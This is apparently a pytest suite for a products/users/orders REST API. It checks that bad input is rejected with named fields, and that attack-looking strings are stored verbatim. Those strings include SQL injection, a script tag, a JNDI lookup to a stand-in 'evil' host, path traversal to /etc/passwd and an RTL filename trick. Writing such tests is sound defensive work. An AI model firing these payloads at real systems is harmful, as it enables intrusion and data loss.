"""The bad-input matrix: every case is a 400 (or 413) with the contract's error, naming the bad
field, and leaves every table exactly as it was."""

import json
import uuid
from decimal import Decimal

import pytest

from tests.events import customer

PRODUCT = {"name": "Pen", "price": Decimal("1.50"), "category": "office", "stock": 1}
USER = {"email": "ann@example.com", "name": "Ann"}
UID = str(uuid.uuid4())
ORDER = {"userId": UID, "items": [{"productId": str(uuid.uuid4()), "quantity": 1}]}


def with_(base, **changes):
    """``base`` with fields replaced (a value of ``...`` removes the field)."""
    merged = {**base, **changes}
    return {key: value for key, value in merged.items() if value is not ...}


def items(*lines):
    """An order body with the given item entries."""
    return {"userId": UID, "items": list(lines)}


def line(product_id=None, quantity=1, **extra):
    """One order item."""
    return {"productId": product_id or str(uuid.uuid4()), "quantity": quantity, **extra}


SAME = str(uuid.uuid4())
# (path, body, field named in details); the body is JSON-encoded unless it is a str (raw).
CASES = {
    # malformed JSON and wrong shapes
    "truncated json": ("/products", '{"name": "Pen"', "body"),
    "empty body": ("/products", "", "body"),
    "not json": ("/users", "email=a@b.com", "body"),
    "json array": ("/products", [PRODUCT], "body"),
    "json string": ("/users", '"hello"', "body"),
    "json null": ("/orders", "null", "body"),
    "NaN": ("/products", '{"name":"Pen","price":NaN,"category":"c","stock":1}', "body"),
    "Infinity": ("/products", '{"name":"Pen","price":Infinity,"category":"c","stock":1}', "body"),
    "non-ascii email": ("/users", {"email": "ÿ@x.com", "name": "A"}, "email"),
    "lone surrogate": ("/users", '{"email":"a@b.com","name":"\\ud800"}', "body"),
    "5000-digit number": ("/products", '{"stock": 1' + "0" * 5000 + "}", "body"),
    # missing, null and wrong types
    "missing name": ("/products", with_(PRODUCT, name=...), "name"),
    "missing stock": ("/products", with_(PRODUCT, stock=...), "stock"),
    "null name": ("/products", with_(PRODUCT, name=None), "name"),
    "null description": ("/products", with_(PRODUCT, description=None), "description"),
    "price as string": ("/products", with_(PRODUCT, price="1.50"), "price"),
    "price as bool": ("/products", with_(PRODUCT, price=True), "price"),
    "stock as string": ("/products", with_(PRODUCT, stock="1"), "stock"),
    "stock fractional": ("/products", with_(PRODUCT, stock=Decimal("1.5")), "stock"),
    "stock 1.0": ("/products", with_(PRODUCT, stock=Decimal("1.0")), "stock"),
    "name as number": ("/products", with_(PRODUCT, name=5), "name"),
    "category as list": ("/products", with_(PRODUCT, category=["a"]), "category"),
    # ranges and money
    "zero price": ("/products", with_(PRODUCT, price=0), "price"),
    "negative price": ("/products", with_(PRODUCT, price=Decimal("-1")), "price"),
    "price over a million": ("/products", with_(PRODUCT, price=Decimal("1000000.01")), "price"),
    "huge price": ("/products", with_(PRODUCT, price=Decimal("1E+400")), "price"),
    "3-decimal price": ("/products", with_(PRODUCT, price=Decimal("19.999")), "price"),
    "tiny price": ("/products", with_(PRODUCT, price=Decimal("1E-400")), "price"),
    "negative stock": ("/products", with_(PRODUCT, stock=-1), "stock"),
    "huge stock": ("/products", with_(PRODUCT, stock=10**30), "stock"),
    "patch 3-decimal price": ("/products/{product}", {"price": Decimal("0.001")}, "price"),
    # strings
    "empty name": ("/products", with_(PRODUCT, name=""), "name"),
    "blank name": ("/products", with_(PRODUCT, name="   "), "name"),
    "201-char name": ("/products", with_(PRODUCT, name="x" * 201), "name"),
    "2001-char description": ("/products", with_(PRODUCT, description="x" * 2001), "description"),
    "65-char category": ("/products", with_(PRODUCT, category="x" * 65), "category"),
    "lowercase currency": ("/products", with_(PRODUCT, currency="usd"), "currency"),
    "4-letter currency": ("/products", with_(PRODUCT, currency="USDX"), "currency"),
    "currency with newline": ("/products", with_(PRODUCT, currency="US\n"), "currency"),
    "unknown field": ("/products", with_(PRODUCT, colour="red"), "colour"),
    "typo in patch": ("/products/{product}", {"stok": 1}, "stok"),
    "patch null stock": ("/products/{product}", {"stock": None}, "stock"),
    # users
    "email without at": ("/users", with_(USER, email="ann.example.com"), "email"),
    "email without dot": ("/users", with_(USER, email="ann@localhost"), "email"),
    "email with space": ("/users", with_(USER, email="ann @example.com"), "email"),
    "email trailing newline": ("/users", with_(USER, email="ann@example.com\n"), "email"),
    "email script": ("/users", with_(USER, email="<script>@x.com"), "email"),
    "email too long": ("/users", with_(USER, email="a" * 250 + "@x.com"), "email"),
    "email null": ("/users", with_(USER, email=None), "email"),
    "user name 101 chars": ("/users", with_(USER, name="x" * 101), "name"),
    "user empty name": ("/users", with_(USER, name=""), "name"),
    "user unknown field": ("/users", with_(USER, admin=True), "admin"),
    "user patch empty": ("/users/{user}", {}, "body"),
    "user patch bad email": ("/users/{user}", {"email": "x"}, "email"),
    # orders
    "no items": ("/orders", items(), "items"),
    "26 items": ("/orders", items(*[line() for _ in range(26)]), "items"),
    "items not a list": ("/orders", {"userId": UID, "items": {}}, "items"),
    "zero quantity": ("/orders", items(line(quantity=0)), "items[0].quantity"),
    "negative quantity": ("/orders", items(line(quantity=-2)), "items[0].quantity"),
    "fractional quantity": ("/orders", items(line(quantity=Decimal("1.5"))), "items[0].quantity"),
    "quantity 101": ("/orders", items(line(), line(quantity=101)), "items[1].quantity"),
    "quantity as string": ("/orders", items(line(quantity="1")), "items[0].quantity"),
    "item unknown field": ("/orders", items(line(price=1)), "items[0]"),
    "item without product": ("/orders", items({"quantity": 1}), "items[0]"),
    "product id not a uuid": ("/orders", items(line("abc")), "items[0].productId"),
    "product id sql": ("/orders", items(line("1' OR '1'='1")), "items[0].productId"),
    "user id not a uuid": ("/orders", with_(ORDER, userId="42"), "userId"),
    "user id uppercase": ("/orders", with_(ORDER, userId=UID.upper()), "userId"),
    "user id null": ("/orders", with_(ORDER, userId=None), "userId"),
    "duplicate products": ("/orders", items(line(SAME), line(SAME, 2)), "items[1].productId"),
    "order unknown field": ("/orders", with_(ORDER, coupon="FREE"), "coupon"),
    "status unknown": ("/orders/{order}", {"status": "LOST"}, "status"),
    "status extra field": ("/orders/{order}", {"status": "CONFIRMED", "x": 1}, "x"),
}


@pytest.fixture(name="targets")
def targets_fixture(api):
    """Existing resources the PATCH cases address."""
    product = api("POST", "/products", body=PRODUCT).body
    user = api("POST", "/users", body=USER).body
    order = {"orderId": str(uuid.uuid4())}
    return {"product": product["productId"], "user": user["userId"], "order": order["orderId"]}


@pytest.mark.parametrize("case", list(CASES))
def test_bad_input(api, snapshot, targets, case):
    path, body, field = CASES[case]
    path = path.format(**targets)
    method = "POST" if path.count("/") == 1 else "PATCH"
    kwargs = {"raw_body": body} if isinstance(body, str) else {"body": body}
    before = snapshot()
    reply = api(method, path, **kwargs)
    assert (reply.status, reply.code) == (400, "BAD_REQUEST"), reply.body
    assert field in [entry["field"] for entry in reply.body["error"]["details"]]
    assert all(entry["message"] for entry in reply.body["error"]["details"])
    assert reply.headers["Access-Control-Allow-Origin"]
    assert snapshot() == before


def test_every_bad_field_is_named(api, snapshot):
    before = snapshot()
    body = {"name": "", "price": Decimal("0.001"), "category": None, "stock": -1, "extra": 1}
    reply = api("POST", "/products", body=body)
    fields = sorted(entry["field"] for entry in reply.body["error"]["details"])
    assert fields == ["category", "extra", "name", "price", "stock"]
    assert snapshot() == before


def test_over_64_kib_is_413(api, snapshot):
    before = snapshot()
    body = json.dumps({**with_(PRODUCT, price=1), "description": "x" * (64 * 1024)})
    for path in ("/products", "/users", "/orders"):
        reply = api("POST", path, raw_body=body)
        assert (reply.status, reply.code) == (413, "PAYLOAD_TOO_LARGE")
    assert snapshot() == before


def test_exactly_64_kib_is_parsed(api):
    body = json.dumps(with_(PRODUCT, price=1))
    body = body + " " * (64 * 1024 - len(body))
    assert api("POST", "/products", raw_body=body).status == 201


def test_strings_that_look_like_attacks_are_stored_verbatim(api):
    nasty = [
        "'; DROP TABLE users; --",
        "<script>alert('x')</script>",
        "${jndi:ldap://evil/a}",
        "../../etc/passwd",
        "#name = :v OR attribute_exists(x)",
        "Zoë 🧪 ̶s̶t̶r̶i̶k̶e̶ \u202etxt.exe",
    ]
    for text in nasty:
        body = {"email": f"{uuid.uuid4().hex}@x.com", "name": text}
        user = api("POST", "/users", body=body, caller=customer())
        assert user.status == 201
        assert api("GET", f"/users/{user.body['userId']}").body["name"] == text
        product = api("POST", "/products", body=with_(PRODUCT, name=text, category=text))
        again = api("GET", "/products", query={"category": text}).body["items"]
        assert [p["name"] for p in again] == [text] and product.body["category"] == text
